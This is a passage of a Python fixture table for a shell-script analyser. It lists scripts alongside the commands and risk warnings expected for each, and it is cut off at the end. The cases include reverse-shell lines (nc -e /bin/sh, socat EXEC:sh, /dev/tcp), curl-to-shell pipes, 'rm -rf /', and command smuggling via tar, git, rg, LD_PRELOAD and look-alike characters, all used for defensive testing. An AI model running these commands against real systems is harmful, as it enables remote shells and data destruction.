"""Scripts and what is read in them. Data only: nothing here is ever executed.

Each command is shown as `wrapper > wrapper > NAME=value program arguments`; `~`
marks an argument that only running the script tells, and `?` such a program.
"""

from __future__ import annotations

from typing import NamedTuple


class Case(NamedTuple):
    script: str
    commands: list[str]
    doubts: list[str] = []  # noqa: RUF012 - nothing changes it
    writes: list[str | None] = []  # noqa: RUF012
    reads: list[str | None] = []  # noqa: RUF012


TABLE = [
    Case("ls -la /tmp", ["ls -la /tmp"]),
    Case(
        "git status; git diff | head -5 && echo done || echo failed",
        ["git status", "git diff", "head -5", "echo done", "echo failed"],
    ),
    Case("ls\nrm -rf build", ["ls", "rm -rf build"]),
    Case("ls & rm -rf build", ["ls", "rm -rf build"]),
    Case("ls&rm x", ["ls", "rm x"]),
    Case("(cd src && rm x)", ["cd src", "rm x"]),
    Case("{ ls; rm x; } > log", ["ls", "rm x"], writes=["log"]),
    Case("cd / && rm -rf tmp", ["cd /", "rm -rf tmp"]),
    Case("! grep -q x f", ["grep -q x f"]),
    Case(
        "if test -f x; then rm x; elif ls; then cat y; else touch z; fi",
        ["test -f x", "rm x", "ls", "cat y", "touch z"],
    ),
    Case('for f in a b; do rm "$f"; done', ['rm ~"$f"']),
    Case("for ((i = 0; i < $(nproc); i++)); do echo $i; done", ["nproc", "echo ~$i"]),
    Case(
        'while read -r line; do echo "$line"; done < input.txt',
        ["read -r line", 'echo ~"$line"'],
        reads=["input.txt"],
    ),
    Case(
        "until ping -c1 example.test; do sleep 1; done",
        ["ping -c1 example.test", "sleep 1"],
    ),
    Case(
        "case $1 in start) systemctl start x ;; *) rm x ;; esac",
        ["systemctl start x", "rm x"],
    ),
    Case("cleanup() { rm -rf build; }; cleanup", ["rm -rf build", "cleanup"]),
    Case("select x in a b; do rm x; done", ["rm x"]),
    Case('echo "$(rm x)"', ["echo ~'\"$(rm x)\"'", "rm x"]),
    Case("echo `rm x`", ["echo ~'`rm x`'", "rm x"]),
    Case('echo "a `rm x` b"', ["echo ~'\"a `rm x` b\"'", "rm x"]),
    Case("echo $(cat $(ls))", ["echo ~'$(cat $(ls))'", "cat ~$(ls)", "ls"]),
    Case("diff <(rm a) <(sort b)", ["diff ~'<(rm a)' ~'<(sort b)'", "rm a", "sort b"]),
    Case("tee >(rm a)", ["tee ~'>(rm a)'", "rm a"]),
    Case("cat <<EOF\n$(rm x)\nEOF", ["cat", "rm x"]),
    Case("cat <<'EOF'\n$(rm x)\nEOF", ["cat"]),
    Case(
        "cat > out.py <<'EOF'\nimport os\nos.remove(\"x\")\nEOF",
        ["cat"],
        writes=["out.py"],
    ),
    Case(
        "cat <<-EOF | tee x\n\t`rm y`\n\tEOF",
        ["cat", "tee x"],
        ["part of it cannot be read with certainty"],
    ),
    Case('cat <<< "$(rm x)"', ["cat", "rm x"]),
    Case(
        "echo $(( $(rm x) + 1 ))",
        ["echo ~'$(( $(rm x) + 1 ))'", "rm x"],
        ["calculates with what only running it tells"],
    ),
    Case(
        "(( a = $(rm x) ))",
        ["rm x"],
        ["calculates with what only running it tells"],
    ),
    Case("[[ $(rm x) == y ]]", ["rm x"]),
    Case('[ -n "$(rm x)" ] && ls', ["rm x", "ls"]),
    Case("echo ${x:-$(rm y)}", ["echo ~'${x:-$(rm y)}'", "rm y"]),
    Case(
        'echo "${x:-`rm y`}"',
        ["echo ~'\"${x:-`rm y`}\"'"],
        ["part of it cannot be read with certainty"],
    ),
    Case("arr=($(rm x) b)", ["rm x"]),
    Case("x=$(rm y)", ["rm y"]),
    Case("FOO=1 make test", ["FOO=1 make test"]),
    Case("g''it status", ["git status"]),
    Case('"git" status', ["git status"]),
    Case("\\git status", ["git status"]),
    Case("$'git' status", ["git status"]),
    Case("$'\\x67it' status", ["git status"]),
    Case("$'\\147it' status", ["git status"]),
    Case("$'gi\\u0074' status", ["git status"]),
    Case('$"git" status', ["git status"]),
    Case('g\\i\\t st"at"us', ["git status"]),
    Case("g\\\nit status", ["git status"]),
    Case(
        "gi$()t status",
        ["? status"],
        [
            "it holds syntax that is not understood",
            "which program gi$()t is, only running it tells",
        ],
    ),
    Case(
        "gi${x}t status",
        ["? status"],
        ["which program gi${x}t is, only running it tells"],
    ),
    Case("$GIT status", ["? status"], ["which program $GIT is, only running it tells"]),
    Case('"$@"', ["?"], ['which program "$@" is, only running it tells']),
    Case(
        "`echo rm` -rf x",
        ["? -rf x", "echo rm"],
        ["which program `echo rm` is, only running it tells"],
    ),
    Case(
        "$(echo rm) -rf x",
        ["? -rf x", "echo rm"],
        ["which program $(echo rm) is, only running it tells"],
    ),
    Case("/bin/r? x", ["? x"], ["which program /bin/r? is, only running it tells"]),
    Case("/bin/[r]m x", ["? x"], ["which program /bin/[r]m is, only running it tells"]),
    Case("{rm,-rf,/}", [], ["it holds syntax that is not understood"]),
    Case("~/bin/tool", ["?"], ["which program ~/bin/tool is, only running it tells"]),
    Case("ls x", ["ls x"]),
    Case("ls\nrm x", ["ls", "rm x"]),
    Case("# rm x\nls", ["ls"]),
    Case("ls # rm x", ["ls"]),
    Case("echo a#b", ["echo a#b"]),
    Case("ls \\\n  -la \\\n  /tmp", ["ls -la /tmp"]),
    Case("alias ls='rm -rf'", ["alias 'ls=rm -rf'"], ["defines an alias"]),
    Case("alias", ["alias"]),
    Case(
        'git() { rm "$@"; }; git status',
        ['rm ~"$@"', "git status"],
        ["defines a function by the name of git"],
    ),
    Case("function ls { rm x; }", ["rm x"], ["defines a function by the name of ls"]),
    Case(
        "LD_PRELOAD=./x.so ls",
        ["LD_PRELOAD=./x.so ls"],
        ["sets LD_PRELOAD, which changes what other programs do"],
    ),
    Case(
        "PATH=.:$PATH ls",
        ["PATH=None ls"],
        ["sets PATH, which changes what other programs do"],
    ),
    Case(
        "export PATH=/tmp/bin",
        ["PATH=/tmp/bin export"],
        ["sets PATH, which changes what other programs do"],
    ),
    Case("IFS=/ ; ls", ["ls"], ["sets IFS, which changes what other programs do"]),
    Case(
        "BASH_ENV=x bash -c ls",
        ["bash > ls"],
        ["sets BASH_ENV, which changes what other programs do"],
    ),
    Case(
        "env ENV=x ls",
        ["env > ENV=x ls"],
        ["sets ENV, which changes what other programs do"],
    ),
    Case(
        "PROMPT_COMMAND='rm x'",
        [],
        ["sets PROMPT_COMMAND, which changes what other programs do"],
    ),
    Case(
        "GIT_SSH_COMMAND='rm x' git fetch",
        ["GIT_SSH_COMMAND=rm x git fetch"],
        ["sets GIT_SSH_COMMAND, which changes what other programs do"],
    ),
    Case(
        "PAGER='rm x' git log",
        ["PAGER=rm x git log"],
        ["sets PAGER, which changes what other programs do"],
    ),
    Case(
        "declare -x LD_LIBRARY_PATH=.",
        ["LD_LIBRARY_PATH=. declare -x"],
        ["sets LD_LIBRARY_PATH, which changes what other programs do"],
    ),
    Case(
        "read PATH < f",
        ["read PATH"],
        ["sets PATH, which changes what other programs do"],
        reads=["f"],
    ),
    Case(
        "printf -v PATH x",
        ["printf -v PATH x"],
        ["sets PATH, which changes what other programs do"],
    ),
    Case(
        "for PATH in a; do ls; done",
        ["ls"],
        ["sets PATH, which changes what other programs do"],
    ),
    Case(
        ": ${PATH:=x}",
        [": ~${PATH:=x}"],
        ["sets PATH, which changes what other programs do"],
    ),
    Case(
        "unset PATH",
        ["unset PATH"],
        ["sets PATH, which changes what other programs do"],
    ),
    Case("export -f ls", ["export -f ls"], ["export -f changes what a name means"]),
    Case(
        "declare -n ref=PATH",
        ["ref=PATH declare -n"],
        ["declare -n changes what a name means"],
    ),
    Case(
        "echo ${!name}",
        ["echo ~${!name}"],
        ["it reads a variable by the name in another"],
    ),
    Case("echo ${x@P}", ["echo ~${x@P}"], ["it expands a variable as a prompt"]),
    Case(
        "x='a[$(rm y)]'; echo $((x))",
        ["echo ~$((x))"],
        ["calculates with x, which may hold a command"],
    ),
    Case("i=1; echo $((i + 1))", ["echo ~'$((i + 1))'"]),
    Case(
        "n=$(cat f); [[ $n -gt 3 ]]",
        ["cat f"],
        ["calculates with n, which may hold a command"],
    ),
    Case(
        "printf -v 'a[$(rm x)]' y",
        ["printf -v 'a[$(rm x)]' y"],
        ["printf sets a variable that only running it tells"],
    ),
    Case(
        "read 'a[$(rm x)]'",
        ["read 'a[$(rm x)]'"],
        ["read sets a variable that only running it tells"],
    ),
    Case(
        "let 'a[$(rm x)]=1'",
        ["let 'a[$(rm x)]=1'"],
        ["calculates with text that may hold a command"],
    ),
    Case(
        "test -v 'a[$(rm x)]'",
        ["test -v 'a[$(rm x)]'"],
        ["tests a name that may hold a command"],
    ),
    Case(
        "mapfile -C 'rm x' -c 1 a < f",
        ["mapfile -C 'rm x' -c 1 a", "mapfile > rm x"],
        reads=["f"],
    ),
    Case("set -euo pipefail", ["set -euo pipefail"]),
    Case("set -k", ["set -k"], ["changes how the shell reads scripts"]),
    Case("set -o posix", ["set -o posix"], ["changes how the shell reads scripts"]),
    Case(
        "shopt -s expand_aliases",
        ["shopt -s expand_aliases"],
        ["changes how the shell reads scripts"],
    ),
    Case("shopt -s globstar", ["shopt -s globstar"]),
    Case(
        "git -c core.pager='rm x' log",
        ["git -c 'core.pager=rm x' log", "git > rm x"],
        ["git is told to use core.pager, which may run a program"],
    ),
    Case(
        "git -c core.sshCommand='rm x' fetch",
        ["git -c 'core.sshCommand=rm x' fetch", "git > rm x"],
        ["git is told to use core.sshCommand, which may run a program"],
    ),
    Case(
        "git -c alias.s='!rm x' s",
        ["git -c 'alias.s=!rm x' s", "git > rm x"],
        [
            "git is told to use alias.s, which may run a program",
            "s is no command of git that is known",
        ],
    ),
    Case("git -c user.name=x commit -m y", ["git -c user.name=x commit -m y"]),
    Case(
        "git --config-env=core.pager=X log",
        ["git --config-env=core.pager=X log"],
        ["git has an option that is not known: --config-env"],
    ),
    Case(
        "git --exec-path=. status",
        ["git --exec-path=. status"],
        ["git has an option that is not known: --exec-path"],
    ),
    Case(
        "git config alias.s '!rm x'",
        ["git config alias.s '!rm x'", "git > rm x"],
        ["git is told to use alias.s, which may run a program"],
    ),
    Case("git config user.name x", ["git config user.name x"]),
    Case(
        "git clone --upload-pack 'rm x' y",
        ["git clone --upload-pack 'rm x' y", "git > rm x"],
        ["git clone is told to run a program"],
    ),
    Case(
        "git clone 'ext::rm x' y",
        ["git clone 'ext::rm x' y"],
        ["git is given an address that runs a program"],
    ),
    Case(
        "git rebase --exec 'rm x' main",
        ["git rebase --exec 'rm x' main", "git > rm x"],
        ["git rebase is told to run a program"],
    ),
    Case("git bisect run rm x", ["git bisect run rm x", "git > rm x"]),
    Case(
        "git submodule foreach 'rm x'", ["git submodule foreach 'rm x'", "git > rm x"]
    ),
    Case(
        "git grep -O'rm x' y",
        ["git grep '-Orm x' y", "git > rm x"],
        ["git grep is told to run a program"],
    ),
    Case(
        "git difftool -x 'rm x'",
        ["git difftool -x 'rm x'", "git > rm x"],
        ["git difftool is told to run a program"],
    ),
    Case(
        "git $cmd",
        ["git ~$cmd"],
        [
            "git is given what may be an option: $cmd",
            "which command of git it is, only running it tells",
        ],
    ),
    Case(
        'git checkout "$branch"',
        ['git checkout ~"$branch"'],
        ["git is given what may be an option"],
    ),
    Case('git checkout -- "$file"', ['git checkout -- ~"$file"']),
    Case(
        "git filter-branch --tree-filter 'rm x'",
        ["git filter-branch --tree-filter 'rm x'"],
        ["git filter-branch runs other programs"],
    ),
    Case(
        "rg --pre ./x foo",
        ["rg --pre ./x foo", "rg > x"],
        ["rg is told to run a program"],
    ),
    Case(
        "rg --pre=./x foo",
        ["rg --pre=./x foo", "rg > x"],
        ["rg is told to run a program"],
    ),
    Case("rg foo src", ["rg foo src"]),
    Case("rg $pattern", ["rg ~$pattern"], ["rg is given what may be an option"]),
    Case(
        "tar xf a.tar --checkpoint=1 --checkpoint-action=exec='rm x'",
        ["tar xf a.tar --checkpoint=1 '--checkpoint-action=exec=rm x'", "tar > rm x"],
        ["tar is told to run a program"],
    ),
    Case(
        "tar cf a.tar * ", ["tar cf a.tar ~*"], ["tar is given what may be an option"]
    ),
    Case("tar cf a.tar ./*", ["tar cf a.tar ~./*"]),
    Case(
        "tar xf a.tar --use-compress-program='rm x'",
        ["tar xf a.tar '--use-compress-program=rm x'", "tar > rm x"],
        ["tar is told to run a program"],
    ),
    Case(
        "tar -I 'rm x' -xf a.tar",
        ["tar -I 'rm x' -xf a.tar", "tar > rm x"],
        ["tar is told to run a program"],
    ),
    Case(
        "tar xf a.tar --to-comm='rm x'",
        ["tar xf a.tar '--to-comm=rm x'", "tar > rm x"],
        ["tar is told to run a program"],
    ),
    Case("tar xzf a.tar -C out", ["tar xzf a.tar -C out"]),
    Case(
        "tar cIf 'rm x' a.tar",
        ["tar cIf 'rm x' a.tar"],
        ["tar is told to run a program"],
    ),
    Case(
        "awk 'BEGIN { system(\"rm x\") }'",
        ["awk 'BEGIN { system(\"rm x\") }'", "awk > rm x"],
        ["awk can run commands or write files"],
    ),
    Case("awk '{ print $1 }' f", ["awk '{ print $1 }' f"]),
    Case(
        "awk '{ print > \"f\" }' g",
        ["awk '{ print > \"f\" }' g"],
        ["awk can run commands or write files"],
    ),
    Case("awk -f prog f", ["awk -f prog f"], ["awk runs a program that is not read"]),
    Case(
        "awk '{ \"rm x\" | getline }'",
        ["awk '{ \"rm x\" | getline }'"],
        ["awk can run commands or write files"],
    ),
    Case("sed -n '1,5p' f", ["sed -n 1,5p f"]),
    Case("sed -i.bak 's/a/b/g' f", ["sed -i.bak s/a/b/g f"]),
    Case(
        "sed 's/x/rm y/e' f",
        ["sed 's/x/rm y/e' f"],
        ["sed can run commands or write files"],
    ),
    Case(
        "sed '1e rm x' f", ["sed '1e rm x' f"], ["sed can run commands or write files"]
    ),
    Case("sed 'w out' f", ["sed 'w out' f"], ["sed can run commands or write files"]),
    Case("sed -e 's|a|b|' -e '/x/d' f", ["sed -e s|a|b| -e /x/d f"]),
    Case("sed -f prog f", ["sed -f prog f"], ["sed can run commands or write files"]),
    Case(
        "find . -name '*.py' -exec rm {} \\;",
        ["find . -name *.py -exec rm {} ;", "find > rm ~{}"],
    ),
    Case(
        "find . -exec sh -c 'rm x' \\; -delete",
        ["find . -exec sh -c 'rm x' ; -delete", "find > sh > rm x"],
    ),
    Case(
        "find . -exec sh -c 'rm {}' \\;",
        ["find . -exec sh -c 'rm {}' ;", "find > sh -c ~'rm {}'"],
        [
            "sh is given what may be an option: rm {}",
            "sh runs a command that only running it tells",
        ],
    ),
    Case(
        "find . -execdir rm {} + -o -ok mv {} x ';'",
        [
            "find . -execdir rm {} + -o -ok mv {} x ;",
            "find > rm ~{}",
            "find > mv ~{} x",
        ],
    ),
    Case("find . -fprint out", ["find . -fprint out"], writes=["out"]),
    Case("find $where", ["find ~$where"], ["find is given what may be an action"]),
    Case("fd -e py -x rm", ["fd -e py -x rm", "fd > rm ~''"]),
    Case("ls | xargs rm", ["ls", "xargs > rm ~''"]),
    Case("ls | xargs -I{} mv {} /tmp", ["ls", "xargs > mv ~{} /tmp"]),
    Case("ls | xargs -0 -n1 sh -c 'rm \"$1\"' _", ["ls", 'xargs > sh > rm ~"$1"']),
    Case(
        "ls | xargs -I{} sh -c 'rm {}'",
        ["ls", "xargs > sh -c ~'rm {}'"],
        [
            "sh is given what may be an option: rm {}",
            "sh runs a command that only running it tells",
        ],
    ),
    Case("ls | xargs", ["ls", "xargs > echo ~''"]),
    Case("ls | xargs sudo rm", ["ls", "xargs > sudo > rm ~''"]),
    Case("sudo rm -rf /", ["sudo > rm -rf /"]),
    Case(
        "sudo -u www -- env A=1 nohup timeout -s KILL 5 nice -n 3 rm x",
        ["sudo > env > nohup > timeout > nice > A=1 rm x"],
    ),
    Case(
        "sudo --unknown rm x",
        ["sudo > rm x"],
        ["sudo has an option that is not known: --unknown"],
    ),
    Case("sudo -i", ["sudo -i"], ["sudo starts a shell"]),
    Case("sudo -s rm x", ["sudo > rm x"]),
    Case("doas rm x", ["doas > rm x"]),
    Case("env -i A=1 rm x", ["env > A=1 rm x"]),
    Case("env -S 'rm x'", ["env -S 'rm x'", "env > rm x"]),
    Case("env", ["env"]),
    Case(
        "env $X rm",
        ["env > ? rm"],
        [
            "env is given what may be an option: $X",
            "which program $X is, only running it tells",
        ],
    ),
    Case("nohup rm x &", ["nohup > rm x"]),
    Case("timeout 5 rm x", ["timeout > rm x"]),
    Case(
        "timeout $T rm x",
        ["timeout > rm x"],
        ["timeout is given what may be an option: $T"],
    ),
    Case("stdbuf -oL rm x", ["stdbuf > rm x"]),
    Case("setsid -f rm x", ["setsid > rm x"]),
    Case("time rm x", ["time > rm x"]),
    Case("time -o out rm x", ["time > rm x"], writes=["out"]),
    Case(
        "time { rm x; }",
        ["time > { rm x", "}"],
        [
            "{ is a word of the shell where a program stands",
            "{ may run another program: rm",
            "part of it cannot be read with certainty",
            "} is a word of the shell where a program stands",
        ],
    ),
    Case("command rm x", ["command > rm x"]),
    Case("command -v rm", ["command -v rm"]),
    Case("builtin cd x", ["builtin > cd x"]),
    Case("exec rm x", ["exec > rm x"]),
    Case("exec -a ls rm x", ["exec > rm x"]),
    Case("exec > log", ["exec"], writes=["log"]),
    Case("watch -n1 rm x", ["watch > rm x"]),
    Case("watch -x rm x", ["watch > rm x"]),
    Case(
        "parallel rm ::: a b",
        ["parallel rm ::: a b", "parallel > rm"],
        ["parallel can run commands that are not read"],
    ),
    Case("strace -f -o out rm x", ["strace > rm x"], writes=["out"]),
    Case(
        "strace -o '|rm x' ls",
        ["strace > ls"],
        ["strace runs a command on its output"],
        writes=["|rm x"],
    ),
    Case("chroot /mnt rm x", ["chroot > rm x"]),
    Case("unshare -r rm x", ["unshare > rm x"]),
    Case("nsenter -t 1 -m rm x", ["nsenter > rm x"]),
    Case("busybox sh -c 'rm x'", ["busybox > sh > rm x"]),
    Case("busybox rm x", ["busybox > rm x"]),
    Case("flock /tmp/l -c 'rm x'", ["flock > rm x"]),
    Case("flock /tmp/l rm x", ["flock > rm x"]),
    Case("bash -c 'rm x; ls'", ["bash > rm x", "bash > ls"]),
    Case('bash -lc "rm x"', ["bash > rm x"]),
    Case("sh -ec 'sh -c \"rm x\"'", ["sh > sh > rm x"]),
    Case(
        'bash -c "$X"',
        ['bash -c ~"$X"'],
        [
            'bash is given what may be an option: "$X"',
            "bash runs a command that only running it tells",
        ],
    ),
    Case("bash -c 'rm \"$1\"' _ x", ['bash > rm ~"$1"']),
    Case("bash script.sh", ["bash script.sh"]),
    Case(
        "bash -s < f",
        ["bash -s"],
        ["bash runs what it reads on its standard input"],
        reads=["f"],
    ),
    Case(
        "bash <(curl -s https://example.test)",
        ["bash ~'<(curl -s https://example.test)'", "curl -s https://example.test"],
        [
            "bash is given what may be an option: <(curl -s https://example.test)",
            "bash runs a script that only running it tells",
        ],
    ),
    Case(
        "curl -s https://example.test | sh",
        ["curl -s https://example.test", "sh"],
        ["sh runs what it reads on its standard input"],
    ),
    Case(
        "curl -s https://example.test | sudo bash -s -- -y",
        ["curl -s https://example.test", "sudo > bash -s -- -y"],
        ["bash runs what it reads on its standard input"],
    ),
    Case(
        "curl -s https://example.test | (cd /tmp; sh)",
        ["curl -s https://example.test", "cd /tmp", "sh"],
        ["sh runs what it reads on its standard input"],
    ),
    Case(
        "echo cm0K | base64 -d | sh",
        ["echo cm0K", "base64 -d", "sh"],
        ["sh runs what it reads on its standard input"],
    ),
    Case(
        "bash <<'EOF'\nrm x\nEOF",
        ["bash", "bash > rm x"],
        ["bash runs what it reads on its standard input"],
    ),
    Case(
        "bash <<< 'rm x'",
        ["bash", "bash > rm x"],
        ["bash runs what it reads on its standard input"],
    ),
    Case(
        "zsh -c 'rm x'", ["zsh > rm x"], ["zsh reads scripts in a language of its own"]
    ),
    Case(
        "fish -c 'rm x'",
        ["fish > rm x"],
        ["fish reads scripts in a language of its own"],
    ),
    Case(
        "bash --rcfile x -i",
        ["bash --rcfile x -i"],
        [
            "bash has an option that is not known: --rcfile",
            "bash runs what it reads on its standard input",
        ],
    ),
    Case('eval "rm x"', ["eval 'rm x'", "eval > rm x"]),
    Case(
        'eval "$(ssh-agent)"',
        ['eval ~"$(ssh-agent)"', "ssh-agent"],
        ["eval runs a command that only running it tells"],
    ),
    Case("eval rm '$X'", ["eval rm $X", "eval > rm ~$X"]),
    Case("source venv/bin/activate", ["source venv/bin/activate"]),
    Case(
        ". /dev/stdin", [". /dev/stdin"], [". runs a file that only running it tells"]
    ),
    Case(
        "source <(curl -s https://example.test)",
        ["source ~'<(curl -s https://example.test)'", "curl -s https://example.test"],
        ["source runs a file that only running it tells"],
    ),
    Case(
        'source "$X"',
        ['source ~"$X"'],
        ["source runs a file that only running it tells"],
    ),
    Case("trap 'rm x' EXIT", ["trap 'rm x' EXIT", "trap > rm x"]),
    Case("trap - EXIT", ["trap - EXIT"]),
    Case(
        'trap "$X" EXIT',
        ['trap ~"$X" EXIT'],
        ["trap runs a command that only running it tells"],
    ),
    Case("coproc rm x", ["coproc > rm x"]),
    Case(
        "coproc c { rm x; }",
        ["coproc > c { rm x", "}"],
        [
            "part of it cannot be read with certainty",
            "c may run another program: rm",
            "} is a word of the shell where a program stands",
        ],
    ),
    Case(
        "python -c 'import os; os.system(\"rm x\")'",
        ["python -c 'import os; os.system(\"rm x\")'", "python > rm x"],
    ),
    Case(
        'python3 -c "$X"',
        ['python3 -c ~"$X"'],
        ["python3 runs code that only running it tells"],
    ),
    Case("python3 - <<'EOF'\nimport shutil\nshutil.rmtree(\"x\")\nEOF", ["python3 -"]),
    Case("python3 -m pytest -q", ["python3 -m pytest -q"]),
    Case("python3 x.py -c y", ["python3 x.py -c y"]),
    Case(
        "curl -s https://example.test | python3",
        ["curl -s https://example.test", "python3"],
        ["python3 runs code that only running it tells"],
    ),
    Case(
        "perl -e 'unlink \"x\"'",
        ["perl -e 'unlink \"x\"'"],
        ["perl runs code that is not read"],
    ),
    Case(
        "perl -pi -e 's/a/b/' f",
        ["perl -pi -e s/a/b/ f"],
        ["perl runs code that is not read"],
    ),
    Case("perl x.pl", ["perl x.pl"]),
    Case("node -e 'x'", ["node -e x"], ["node runs code that is not read"]),
    Case("node x.js", ["node x.js"]),
    Case("ruby -e 'x'", ["ruby -e x"], ["ruby runs code that is not read"]),
    Case("ssh host 'rm x'", ["ssh host 'rm x'", "ssh > rm x"]),
    Case(
        "ssh -o ProxyCommand='rm x' host ls",
        ["ssh -o 'ProxyCommand=rm x' host ls", "ssh > rm x", "ssh > ls"],
        ["ssh is told to run a program"],
    ),
    Case("ssh host", ["ssh host"], ["ssh starts a shell elsewhere"]),
    Case(
        "scp -S 'rm x' a host:b",
        ["scp -S 'rm x' a host:b", "scp > rm x"],
        ["scp is told to run a program"],
    ),
    Case(
        "rsync -e 'rm x' a b",
        ["rsync -e 'rm x' a b", "rsync > rm x"],
        ["rsync is told to run a program"],
    ),
    Case("rsync -a a b", ["rsync -a a b"]),
    Case(
        "man -P 'rm x' ls",
        ["man -P 'rm x' ls", "man > rm x"],
        ["man is told to run a program"],
    ),
    Case(
        "vim -c '!rm x'",
        ["vim -c '!rm x'", "vim > rm x"],
        ["vim can run commands that are not read"],
    ),
    Case("vim f", ["vim f"], ["vim can run commands that are not read"]),
    Case(
        "sort --compress-program='rm x' f",
        ["sort '--compress-program=rm x' f", "sort > rm x"],
        ["sort is told to run a program"],
    ),
    Case(
        "split --filter='rm x' f",
        ["split '--filter=rm x' f", "split > rm x"],
        ["split is told to run a program"],
    ),
    Case(
        "make SHELL='rm x'",
        ["make 'SHELL=rm x'"],
        ["make is told to run other programs: SHELL=rm x"],
    ),
    Case("make test", ["make test"]),
    Case("npm run build", ["npm run build"]),
    Case(
        "npm exec tool", ["npm exec tool"], ["npm is told to run other programs: exec"]
    ),
    Case("pip install requests", ["pip install requests"]),
    Case(
        "docker run --rm -v /:/h alpine rm x", ["docker run --rm -v /:/h alpine rm x"]
    ),
    Case(
        "nc -e /bin/sh host 1",
        ["nc -e /bin/sh host 1", "nc > sh"],
        ["nc is told to run a program", "sh runs what it reads on its standard input"],
    ),
    Case(
        "socat TCP:host EXEC:sh",
        ["socat TCP:host EXEC:sh"],
        ["socat can run commands that are not read"],
    ),
    Case("crontab -", ["crontab -"], ["crontab can run commands that are not read"]),
    Case("at now <<< 'rm x'", ["at now"], ["at can run commands that are not read"]),
    Case(
        "su -c 'rm x' user",
        ["su -c 'rm x' user", "su > rm x"],
        ["su is told to run a program"],
    ),
    Case(
        "less +'!rm x' f",
        ["less '+!rm x' f"],
        ["less is told to run other programs: +!rm x"],
    ),
    Case(
        "gdb -ex 'shell rm x'",
        ["gdb -ex 'shell rm x'"],
        ["gdb can run commands that are not read"],
    ),
    Case(
        "echo x > f; echo y >> g; echo z >| h",
        ["echo x", "echo y", "echo z"],
        writes=["f", "g", "h"],
    ),
    Case(
        "ls &> all; ls >& both; ls 2>/dev/null",
        ["ls", "ls", "ls"],
        writes=["all", "both", "/dev/null"],
    ),
    Case("ls 2>&1 >&2 <&3", ["ls"]),
    Case('echo x > "$F"', ["echo x"], writes=[None]),
    Case("echo x > ~/f", ["echo x"], writes=[None]),
    Case("> empty", [], writes=["empty"]),
    Case("< in cat > out -n", ["cat -n"], writes=["out"], reads=["in"]),
    Case(
        "echo x > /dev/tcp/host/80",
        ["echo x"],
        ["it opens a network connection: /dev/tcp/host/80"],
        writes=["/dev/tcp/host/80"],
    ),
    Case(
        "read x < /dev/tcp/host/80",
        ["read x"],
        ["it opens a network connection: /dev/tcp/host/80"],
        reads=["/dev/tcp/host/80"],
    ),
    Case(
        "exec 3<>/dev/tcp/host/80",
        ["exec"],
        [
            "it holds syntax that is not understood",
            "part of it cannot be read with certainty",
            "it opens a network connection: /dev/tcp/host/80",
        ],
        reads=["/dev/tcp/host/80"],
    ),
    Case(
        "echo >&'$(rm x)'",
        ["echo"],
        ["part of it cannot be read with certainty"],
        writes=["$(rm x)"],
    ),
    Case(
        "cat <<A <<B\nx\nA\ny\nB",
        ["cat", "y", "B"],
        ["it holds syntax that is not understood"],
        reads=["B"],
    ),
    Case("'' x", ["? x"], ["the name of a program holds unusual characters"]),
    Case(
        "./git status",
        ["git status"],
        ["./git may be another program than the system's git"],
    ),
    Case("/usr/bin/git status", ["git status"]),
    Case(
        "/tmp/rm x", ["rm x"], ["/tmp/rm may be another program than the system's rm"]
    ),
    Case("./build.sh all", ["build.sh all"]),
    Case("'a b' c", ["a b c"]),
    Case("echo 'unterminated", ["echo"], ["it holds syntax that is not understood"]),
    Case("ls )", ["ls"], ["it holds syntax that is not understood"]),
    Case("if ls", [], ["it holds syntax that is not understood"]),
    Case(
        "time -2>b",
        ["time"],
        ["part of it cannot be read with certainty"],
        writes=["b"],
    ),
    Case(
        "!{ ls",
        ["{ ls"],
        [
            "part of it cannot be read with certainty",
            "{ is a word of the shell where a program stands",
        ],
    ),
    Case("echo \\'rm x\\'", ["echo 'rm x'"]),
    Case(
        "enable -f ./x.so y",
        ["enable -f ./x.so y"],
        ["enable changes or runs what is not in the script"],
    ),
    Case(
        "hash -p ./x ls",
        ["hash -p ./x ls"],
        ["hash changes or runs what is not in the script"],
    ),
    Case(
        "complete -C 'rm x' y",
        ["complete -C 'rm x' y"],
        ["complete changes or runs what is not in the script"],
    ),
    Case(
        "jobs -x rm x",
        ["jobs -x rm x"],
        ["jobs changes or runs what is not in the script"],
    ),
    Case("history -c", ["history -c"]),
    Case("fc -s", ["fc -s"], ["fc changes or runs what is not in the script"]),
    Case("ls\x00x", [], ["it holds a NUL byte"]),
    Case(
        "ls\xa0x",
        ["ls\xa0x"],
        [
            "it holds blanks that a shell does not take as blanks",
            "the name of a program holds unusual characters",
        ],
    ),
    Case(
        "rm\u3000x",
        ["rm\u3000x"],
        [
            "it holds blanks that a shell does not take as blanks",
            "the name of a program holds unusual characters",
        ],
    ),
    Case(
        "ls x\r\nrm y\r\n",
        ["ls x", "rm y"],
        [
            "it holds carriage returns, which a shell takes as text",
            "part of it cannot be read with certainty",
        ],
    ),
    Case("echo \x1b[31mred", ["echo \\x1b[31mred"], ["it holds control characters"]),
    Case(
        "r\u200bm x",
        ["r\u200bm x"],
        [
            "it holds invisible or direction-changing characters",
            "the name of a program holds unusual characters",
        ],
    ),
    Case(
        "echo \u202eabc",
        ["echo \\u202eabc"],
        ["it holds invisible or direction-changing characters"],
    ),
    Case(
        "g\u0456t status",
        ["g\u0456t status"],
        ["the name of a program holds unusual characters"],
    ),
    Case("IFS= read -r line", ["IFS= read -r line"]),
    Case(
        "cat - <<'E'\nx\nE",
        ["cat -"],
    ),
    Case("git-push origin", ["git-push origin", "git-push > git push origin"]),
    Case(
        "/usr/lib/git-core/git-push origin",
        ["git-push origin", "git-push > git push origin"],
    ),
    Case(
        "python3 -m twine upload f",
        ["python3 -m twine upload f", "python3 > twine upload f"],
    ),
    Case(
        "python3 -m pip install x",
        ["python3 -m pip install x", "python3 > pip install x"],
    ),
    Case(
        "python3 -mpip.__main__ install x",
        ["python3 -mpip.__main__ install x", "python3 > pip install x"],
    ),
    Case(
        "python3 -m awscli s3 ls",
        ["python3 -m awscli s3 ls", "python3 > aws s3 ls"],
    ),
    Case("f() { ls; } > a; f", ["ls", "f"], writes=["a"]),
    Case("f() { ls; } > a 2> b < c", ["ls"], writes=["b", "a"], reads=["c"]),
    Case("function f { ls; } >> a", ["ls"], writes=["a"]),
    Case("f() ( ls ) >&a", ["ls"], writes=["a"]),
    Case("f() if ls; then :; fi > $X", ["ls", ":"], writes=[None]),
    Case("f() { ls; } > >(rm x)", ["ls", "rm x"]),
    Case("f() ((1)) > a", [], writes=["a"]),
    Case("f() { ls; } > $(rm x)", ["ls", "rm x"], writes=[None]),
    *(
        Case(script, commands, ["sets PATH, which changes what other programs do"])
        for script, commands in (
